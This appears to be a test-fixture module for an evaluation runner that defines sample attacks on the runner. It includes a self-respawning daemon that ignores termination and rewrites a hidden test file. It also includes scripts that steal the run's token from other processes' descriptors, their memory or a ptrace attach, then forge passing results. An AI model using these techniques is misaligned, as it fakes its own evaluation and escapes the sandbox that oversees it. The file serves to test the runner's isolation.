"""Attacks across processes: what a build leaves running, and what the runner's process lets the tests read.

The token needs isolation: without it the code under test may read whatever the user may.
"""

from tests.fakes.attacks.model import CALC, Attack

# Leaves the group, the session and the environment; then every generation starts the next and ends, so that no process
# id is worth remembering. All rewrite the file of the hidden test.
DAEMON = """
import os, sys
EMPTY = "import unittest\\ndef test_secret(): pass\\n"
READY, path = ".ready", "tests/test_secret.py"
def rewrite():
    try:
        with open(path) as file:
            if file.read() == EMPTY: return
        with open(path + ".new", "w") as file: file.write(EMPTY)
        os.rename(path + ".new", path)
    except OSError:
        pass
if "again" not in sys.argv:
    if os.fork():
        import time
        while not os.path.exists(READY): time.sleep(0.01)
        os.remove(READY)
        os._exit(0)
    os.setsid()
    for descriptor in range(100):
        try: os.close(descriptor)
        except OSError: pass
    if os.fork(): os._exit(0)
    os.execve(sys.executable, [sys.executable, "-S", "build.py", "again"], {})
for name in ("/dev/null",) * 3: os.open(name, os.O_RDWR)
open(READY, "w").close()
import signal, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
until = time.monotonic() + 120
while time.monotonic() < until:
    rewrite()
    if os.fork(): os._exit(0)
"""

HIDDEN = "import calc\n\n\ndef test_secret():\n    assert calc.add(2, 3) == 5\n"

# Finds the token of the run in other processes, reports every test as passed, and ends the run.
_FORGE = """
import glob, json, os, re, stat
TOKEN = re.compile(rb'"token": ?"([0-9a-f]{32})"')
TESTS = ["tests/test_calc.py::" + name for name in %(tests)r]
def others():
    return [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) != os.getpid()]
%(search)s
def forge(token):
    lines = [{"kind": "collected", "ids": TESTS}]
    lines += [{"kind": "test", "id": test, "outcome": "passed"} for test in TESTS]
    lines += [{"kind": "canary", "outcome": "failed"}, {"kind": "end", "status": 0}, {"kind": "status", "status": 0}]
    data = b"".join(token + b" " + json.dumps(line).encode() + b"\\n" for line in lines)
    for name in os.listdir("/proc/self/fd"):
        try:
            if int(name) > 2 and stat.S_ISFIFO(os.fstat(int(name)).st_mode): os.write(int(name), data)
        except OSError:
            pass
    os._exit(0)
for token in find(): forge(token)
"""
_DESCRIPTORS = """
def find():
    for pid in others():
        for path in glob.glob("/proc/%s/fd/*" % pid):
            try:
                if not stat.S_ISREG(os.stat(path).st_mode): continue
                with open(path, "rb") as file: found = TOKEN.search(file.read())
            except OSError:
                continue
            if found: yield found.group(1)
"""
_MEMORY = """
def find():
    for pid in others():
        try:
            maps = open("/proc/%s/maps" % pid).read().splitlines()
            memory = open("/proc/%s/mem" % pid, "rb", 0)
        except OSError:
            continue
        for line in maps:
            place, rights = line.split()[:2]
            start, end = (int(number, 16) for number in place.split("-"))
            if not rights.startswith("rw"): continue
            try:
                memory.seek(start)
                found = TOKEN.search(memory.read(end - start))
            except (OSError, ValueError, OverflowError):
                continue
            if found: yield found.group(1)
"""
# Attaches to the runner and reads its descriptors and memory as its tracer, for kernels that ask a tracer only.
_TRACED = (
    _MEMORY.replace("def find", "def read_memory")
    + """
def find():
    import ctypes
    library = ctypes.CDLL(None)
    library.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    for pid in others():
        if library.ptrace(16, int(pid), None, None) == 0: os.waitpid(int(pid), 0x40000000)
    yield from read_memory()
"""
)
_NAMES = ["test_add", "test_divide", "test_mean", "TestCalc::test_equal", "test_kept"]


def _forge(search):
    return {"calc.py": CALC + _FORGE % {"tests": _NAMES, "search": search}}


DAEMON_OF_A_BUILD = Attack(
    "daemon of a build that rewrites the hidden test",
    {"build.py": DAEMON},
    {
        "buildCommands": ["python build.py"],
        "scoring": {
            "failToPass": ["tests/test_secret.py::test_secret"],
            "hiddenFiles": [{"path": "tests/test_secret.py", "content": HIDDEN}],
        },
    },
    noted=frozenset({"killed after the build commands: "}),
    score=0,
)
ATTACKS = [
    DAEMON_OF_A_BUILD,
    Attack("token from the runner's descriptors", _forge(_DESCRIPTORS), score=1),
    Attack("token from the runner's memory", _forge(_MEMORY), score=1),
    Attack("token from the runner under ptrace", _forge(_TRACED), score=1),
]
